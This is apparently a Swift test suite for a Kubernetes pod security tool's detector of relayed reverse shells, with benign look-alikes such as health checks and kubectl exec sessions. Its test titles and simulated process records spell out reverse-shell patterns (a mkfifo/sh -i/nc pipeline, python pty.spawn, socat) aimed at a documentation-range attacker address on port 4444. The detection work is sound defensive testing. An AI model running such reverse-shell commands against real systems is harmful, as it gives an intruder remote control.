import PodwallCore
import Testing

@testable import PodwallDetection

/// Reverse shells whose stdio is a pipe, pty or socketpair relayed by a
/// connected process of the pod, and the benign look-alikes.
@Suite("Relayed shells")
struct ShellRelayDetectorTests {
    static let source = AlertSource(address: ip("10.1.0.9"), ifindex: 7, podName: "shop/web")
    static let attacker = ip("203.0.113.9")

    static func exec(_ pid: UInt32, parent: UInt32, _ comm: String, _ arguments: [String], stdio: [StdioDescriptor], at offset: UInt64 = 0)
        -> ExecRecord
    {
        ExecRecord(
            process: ProcessIdentity(pid: pid, namespacePid: pid - 1000, parentPid: parent, cgroupID: 55, startNs: Clock.t0),
            timestampNs: Clock.t0 + offset, comm: comm, filename: "/usr/bin/" + comm, arguments: arguments, stdio: stdio)
    }

    static func connect(_ pid: UInt32, _ comm: String, to remote: IPAddress = attacker, at offset: UInt64) -> ProcessConnection {
        ProcessConnection(pid: pid, cgroupID: 55, comm: comm, proto: .tcp, remote: remote, remotePort: 4444, timestampNs: Clock.t0 + offset)
    }

    struct Run {
        var detector = ProcessDetector()
        var alerts: [Alert] = []

        mutating func exec(_ record: ExecRecord) {
            alerts += detector.observe(record, source: ShellRelayDetectorTests.source, now: record.timestampNs)
        }
        mutating func connect(_ connection: ProcessConnection) { alerts += detector.observe(connection, now: connection.timestampNs) }
        mutating func relay(_ relay: RelayConnect) { alerts += detector.observe(relay, now: relay.connection.timestampNs) }
        mutating func tick(at now: UInt64) { alerts += detector.tick(now: now) }

        var relayed: [ProcessEvidence] {
            alerts.compactMap {
                if case .process(let evidence) = $0.evidence, evidence.technique == .relayedStdio { evidence } else { nil }
            }
        }
    }

    @Test("mkfifo: cat /tmp/f | sh -i 2>&1 | nc H P > /tmp/f, decided at nc's connect")
    func mkfifoAndNetcat() throws {
        var run = Run()
        let (fifo, toShell, fromShell) = (
            StdioDescriptor.pipe(inode: 900), StdioDescriptor.pipe(inode: 901), StdioDescriptor.pipe(inode: 902)
        )
        run.exec(Self.exec(2001, parent: 2000, "cat", ["cat", "/tmp/f"], stdio: [.file, toShell, .pipe(inode: 5)]))
        run.exec(Self.exec(2002, parent: 2000, "sh", ["sh", "-i"], stdio: [toShell, fromShell, fromShell], at: 1_000))
        run.exec(Self.exec(2003, parent: 2000, "nc", ["nc", "203.0.113.9", "4444"], stdio: [fromShell, fifo, .pipe(inode: 5)], at: 2_000))
        #expect(run.relayed.isEmpty, "nothing connected yet")
        run.connect(Self.connect(2003, "nc", at: 3_000_000))
        let evidence = try #require(run.relayed.first)
        #expect(evidence.comm == "sh")
        #expect(evidence.relay == "nc")
        #expect(evidence.remote == Self.attacker)
        let alert = try #require(run.alerts.first { $0.kind == .reverseShell })
        #expect(alert.source.podName == "shop/web", "the shell's pod and process, not the relay's")
        #expect(alert.source.process == nil || alert.source.process?.comm == "sh")
        #expect(run.alerts.contains { $0.kind == .networkTool }, "nc itself is a network tool")
    }

    @Test("python pty.spawn: python connects, then bash on a pty, decided at bash's exec")
    func ptySpawn() throws {
        var run = Run()
        run.exec(
            Self.exec(
                3001, parent: 3000, "python3", ["python3", "-c", "import socket,pty,os; ..."],
                stdio: [.pipe(inode: 1), .pipe(inode: 2), .pipe(inode: 2)]))
        run.connect(Self.connect(3001, "python3", at: 1_000_000))
        run.exec(Self.exec(3002, parent: 3001, "bash", ["/bin/bash"], stdio: [.terminal, .terminal, .terminal], at: 5_000_000))
        #expect(run.relayed.first?.relay == "python3")
    }

    @Test("socat's socketpair and a JVM's pipes: the parent relays")
    func parentRelays() {
        var run = Run()
        run.connect(Self.connect(4001, "java", at: 0))
        run.exec(
            Self.exec(4002, parent: 4001, "sh", ["/bin/sh"], stdio: [.pipe(inode: 10), .pipe(inode: 11), .pipe(inode: 12)], at: 1_000_000))
        run.connect(Self.connect(5001, "socat", at: 2_000_000))
        let pair = StdioDescriptor.unixSocket(inode: 20, peerInode: 21)
        run.exec(Self.exec(5002, parent: 5001, "bash", ["bash", "-li"], stdio: [pair, pair, pair], at: 3_000_000))
        #expect(run.relayed.map(\.relay) == ["java", "socat"])
    }

    @Test("benign: an app with a database connection running sh -c, a health check, kubectl exec -it, loopback")
    func benign() {
        var run = Run()
        // A service holding a connection to its database runs commands with sh -c.
        run.connect(Self.connect(6001, "python3", to: ip("10.1.0.20"), at: 0))
        run.exec(
            Self.exec(
                6002, parent: 6001, "sh", ["sh", "-c", "ls /data"], stdio: [.pipe(inode: 30), .pipe(inode: 31), .pipe(inode: 32)], at: 1_000
            ))
        // A health check: sh -c curl; curl inherits sh's pipes and connects.
        run.exec(
            Self.exec(
                7001, parent: 1, "sh", ["sh", "-c", "curl -f http://10.1.0.9/"],
                stdio: [.pipe(inode: 40), .pipe(inode: 41), .pipe(inode: 41)], at: 2_000))
        run.exec(
            Self.exec(
                7002, parent: 7001, "curl", ["curl", "-f", "http://10.1.0.9/"],
                stdio: [.pipe(inode: 40), .pipe(inode: 41), .pipe(inode: 41)], at: 3_000))
        run.connect(Self.connect(7002, "curl", to: ip("10.1.0.9"), at: 4_000))
        // kubectl exec -it bash (its parent is runc, outside the pod), then curl from it.
        run.exec(Self.exec(8001, parent: 99, "bash", ["bash"], stdio: [.terminal, .terminal, .terminal], at: 5_000))
        run.exec(
            Self.exec(8002, parent: 8001, "curl", ["curl", "http://203.0.113.9/"], stdio: [.terminal, .terminal, .terminal], at: 6_000))
        run.connect(Self.connect(8002, "curl", at: 7_000))
        // A shell fed by a process that only talks to itself.
        run.exec(Self.exec(9001, parent: 9000, "sh", ["sh"], stdio: [.pipe(inode: 50), .pipe(inode: 51), .pipe(inode: 51)], at: 8_000))
        run.connect(Self.connect(9000, "node", to: ip("127.0.0.1"), at: 9_000))
        #expect(run.relayed.isEmpty, "\(run.relayed)")
    }

    @Test("benign: a container's processes share its log pipe as stdout; name lookups connect UDP sockets")
    func sameSideOfAPipeAndUDP() {
        var run = Run()
        let log = StdioDescriptor.pipe(inode: 77)
        // The service writes its log, holds a connection, and a sibling sh reads a script from a pipe.
        run.exec(Self.exec(6101, parent: 6100, "java", ["java", "-jar", "app.jar"], stdio: [.characterDevice, log, log]))
        run.connect(Self.connect(6101, "java", at: 1_000))
        run.exec(Self.exec(6102, parent: 6100, "sh", ["sh"], stdio: [.pipe(inode: 78), log, log], at: 2_000))
        // A process that resolved a name (UDP to the DNS service) then started a login shell on a pty.
        var lookup = Self.connect(6201, "sshd", to: ip("10.96.0.10"), at: 3_000)
        lookup.proto = .udp
        run.connect(lookup)
        run.exec(Self.exec(6202, parent: 6201, "bash", ["-bash"], stdio: [.terminal, .terminal, .terminal], at: 4_000))
        #expect(run.relayed.isEmpty, "\(run.relayed)")
    }

    @Test("the kernel's decisions are reported: a shell it killed at exec, a relay it killed at connect, each once")
    func kernelDecisions() throws {
        var run = Run()
        var shell = Self.exec(3002, parent: 3001, "bash", ["/bin/bash"], stdio: [.terminal, .terminal, .terminal], at: 5_000)
        shell.killedAtExec = true
        shell.relayedBy = Self.connect(3001, "python3", at: 1_000)
        run.exec(shell)
        let atExec = try #require(run.relayed.first)
        #expect(atExec.relay == "python3" && atExec.killedAtExec && atExec.remote == Self.attacker)
        run.connect(Self.connect(3001, "python3", at: 1_000))  // the hook's event, from the other ring
        #expect(run.relayed.count == 1, "reported once")

        let fromShell = StdioDescriptor.pipe(inode: 902)
        run.exec(Self.exec(2002, parent: 2000, "sh", ["sh", "-i"], stdio: [.pipe(inode: 901), fromShell, fromShell], at: 6_000))
        let nc = Self.connect(2003, "nc", at: 7_000)
        run.relay(
            RelayConnect(
                process: ProcessIdentity(pid: 2003, namespacePid: 3, parentPid: 2000, cgroupID: 55, startNs: Clock.t0), connection: nc,
                shellPid: 2002, killed: true))
        let atConnect = try #require(run.relayed.last)
        #expect(atConnect.comm == "sh" && atConnect.relay == "nc" && atConnect.relayKilled && !atConnect.killedAtExec)
        run.connect(nc)
        #expect(run.relayed.count == 2, "reported once")
    }

    @Test("where the kernel judges pipes, the hook's connect waits for its word, and reports alone if none comes")
    func hookConnectWaitsForTheKernel() throws {
        var run = Run()
        run.detector.awaitKernelRelayDecisions()
        let fromShell = StdioDescriptor.pipe(inode: 902)
        run.exec(Self.exec(2002, parent: 2000, "sh", ["sh", "-i"], stdio: [.pipe(inode: 901), fromShell, fromShell]))
        run.exec(Self.exec(2003, parent: 2000, "nc", ["nc", "203.0.113.9", "4444"], stdio: [fromShell, .file, .file], at: 1_000))
        let nc = Self.connect(2003, "nc", at: 2_000)
        run.connect(nc)  // the network ring's event first
        #expect(run.relayed.isEmpty, "held for the kernel's word")
        run.relay(
            RelayConnect(
                process: ProcessIdentity(pid: 2003, namespacePid: 3, parentPid: 2000, cgroupID: 55, startNs: Clock.t0), connection: nc,
                shellPid: 2002, killed: true))
        #expect(run.relayed.map(\.relayKilled) == [true])

        // The hook's connect is read before the shell's exec (two rings), though the exec came first.
        run.exec(Self.exec(5003, parent: 5000, "nc", ["nc"], stdio: [.pipe(inode: 702), .file, .file], at: 2_500))
        let late = Self.connect(5003, "nc", at: 2_600)
        run.connect(late)
        run.exec(
            Self.exec(5002, parent: 5000, "sh", ["sh", "-i"], stdio: [.pipe(inode: 701), .pipe(inode: 702), .pipe(inode: 702)], at: 2_400))
        #expect(run.relayed.count == 1, "held for the kernel's word")
        run.relay(
            RelayConnect(
                process: ProcessIdentity(pid: 5003, namespacePid: 3, parentPid: 5000, cgroupID: 55, startNs: Clock.t0), connection: late,
                shellPid: 5002, killed: true))
        #expect(run.relayed.count == 2 && run.relayed.last?.relayKilled == true)

        // Its argument check gave up (say): no word comes; reported at the tick after the wait.
        run.exec(
            Self.exec(4002, parent: 4000, "sh", ["sh", "-i"], stdio: [.pipe(inode: 801), .pipe(inode: 802), .pipe(inode: 802)], at: 3_000))
        run.exec(Self.exec(4003, parent: 4000, "nc", ["nc"], stdio: [.pipe(inode: 802), .file, .file], at: 4_000))
        run.connect(Self.connect(4003, "nc", at: 5_000))
        run.tick(at: Clock.t0 + 500_000_000)
        #expect(run.relayed.count == 2)
        run.tick(at: Clock.t0 + 1_100_000_000)
        #expect(run.relayed.count == 3 && run.relayed.last?.relayKilled == false)
    }

    @Test("the relay's connect may arrive before its exec (two rings)")
    func connectBeforeExec() {
        var run = Run()
        let fromShell = StdioDescriptor.pipe(inode: 902)
        run.exec(Self.exec(2002, parent: 2000, "sh", ["sh", "-i"], stdio: [.pipe(inode: 901), fromShell, fromShell]))
        run.connect(Self.connect(2003, "nc", at: 1_000))
        #expect(run.relayed.isEmpty)
        run.exec(
            Self.exec(
                2003, parent: 2000, "nc", ["nc", "203.0.113.9", "4444"], stdio: [fromShell, .pipe(inode: 900), .pipe(inode: 5)], at: 500))
        #expect(run.relayed.map(\.relay) == ["nc"])
    }

    @Test("a relay that connects after the window is not tied to an old shell")
    func window() {
        var run = Run()
        run.exec(Self.exec(2002, parent: 2000, "sh", ["sh", "-i"], stdio: [.pipe(inode: 1), .pipe(inode: 2), .pipe(inode: 2)]))
        run.connect(Self.connect(2000, "nc", at: 31 * Clock.s))
        #expect(run.relayed.isEmpty)
    }

    @Test("commands from the command line or a script are not read from stdin")
    func invocation() {
        #expect(ShellInvocation.readsCommandsFromStdin(["sh"]))
        #expect(ShellInvocation.readsCommandsFromStdin(["bash", "-i"]))
        #expect(ShellInvocation.readsCommandsFromStdin(["bash", "-li"]))
        #expect(ShellInvocation.readsCommandsFromStdin(["python3", "-"]))
        #expect(!ShellInvocation.readsCommandsFromStdin(["sh", "-c", "ls"]))
        #expect(!ShellInvocation.readsCommandsFromStdin(["bash", "-lc", "ls"]))
        #expect(!ShellInvocation.readsCommandsFromStdin(["sh", "/start.sh"]))
        #expect(!ShellInvocation.readsCommandsFromStdin(["python3", "app.py"]))
        #expect(!ShellInvocation.readsCommandsFromStdin(["perl", "-e", "print 1"]))
    }
}
